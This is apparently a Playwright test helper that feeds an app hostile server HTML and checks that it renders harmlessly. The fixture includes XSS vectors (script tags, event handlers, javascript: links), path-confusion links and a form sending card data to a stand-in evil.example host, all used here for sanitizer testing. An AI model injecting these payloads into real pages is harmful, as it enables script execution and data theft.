import type { Locator, Page } from '@playwright/test';
import { expect } from './harness';

/**
 * Server HTML that tries every trick: a script, event handlers, a `javascript:` link, links that only look
 * like paths of ours (`/\host`, `/<tab>/host`, `//host`), a form, inline styles, an image map. None may run or
 * leave the site; a plain external link opens apart with no opener, and a link to one of our pages stays in the
 * app.
 */
export const TRICKY_HTML = [
  '<p id="tricky-intro">Read the rules.</p>',
  '<script>window.__pwned = "script"</script>',
  '<img src="/wps/img/promo/1.svg" alt="banner" onerror="window.__pwned = \'onerror\'" onload="window.__pwned = \'onload\'">',
  '<p onclick="window.__pwned = \'onclick\'" style="position:fixed;inset:0">Styled trap</p>',
  '<a href="javascript:window.__pwned=\'href\'">Script link</a>',
  '<a href="/\\evil.example/steal">Backslash link</a>',
  '<a href="/\tevil.example/steal">Tab link</a>',
  '<a href="//evil.example/steal">Protocol-relative link</a>',
  '<a href="https://partner.example/offer" target="_self">Partner offer</a>',
  '<a href="/m/help?i=1">Help link</a>',
  '<form action="https://evil.example/collect"><input name="card" aria-label="card"><button>Send</button></form>',
  '<map name="m"><area href="https://evil.example/area" alt="area"></map>',
].join('');

/** Checks a rendered TRICKY_HTML: nothing ran, nothing left the site, the good links do what they should. */
export async function expectHarmless(page: Page, content: Locator): Promise<void> {
  await expect(content.getByText('Read the rules.')).toBeVisible();
  await expect(
    content.locator('script, form, input, style, area, map, [onerror], [onclick], [style]'),
  ).toHaveCount(0);
  const before = page.url();
  for (const name of ['Script link', 'Backslash link', 'Tab link', 'Protocol-relative link']) {
    await content.getByText(name, { exact: true }).click();
    expect(page.url()).toBe(before);
  }
  expect(await page.evaluate(() => (window as { __pwned?: string }).__pwned)).toBeUndefined();

  await page
    .context()
    .route('https://partner.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>Partner</title>' }),
    );
  const popupOpened = page.waitForEvent('popup');
  await content.getByText('Partner offer', { exact: true }).click();
  const popup = await popupOpened;
  await popup.waitForLoadState();
  expect(popup.url()).toBe('https://partner.example/offer');
  expect(await popup.evaluate(() => window.opener)).toBeNull();
  await popup.close();
  expect(page.url()).toBe(before);

  await content.getByText('Help link', { exact: true }).click();
  await expect(page).toHaveURL(/\/m\/help\?i=1$/);
}

/** Starts a free trial account from the trial screen and waits for home. */
export async function startTrial(page: Page): Promise<void> {
  await page.goto('/m/trail');
  await page.getByRole('button', { name: 'Start free trial' }).click();
  await expect(page).toHaveURL(/\/m\/home$/);
}

/** Counts the requests to a `/wps` path, e.g. to prove one tap sent one request. */
export function countRequests(page: Page, path: string): { readonly count: number } {
  const counter = { count: 0 };
  page.on('request', (request) => {
    if (request.method() !== 'GET' && new URL(request.url()).pathname === path) counter.count += 1;
  });
  return counter;
}
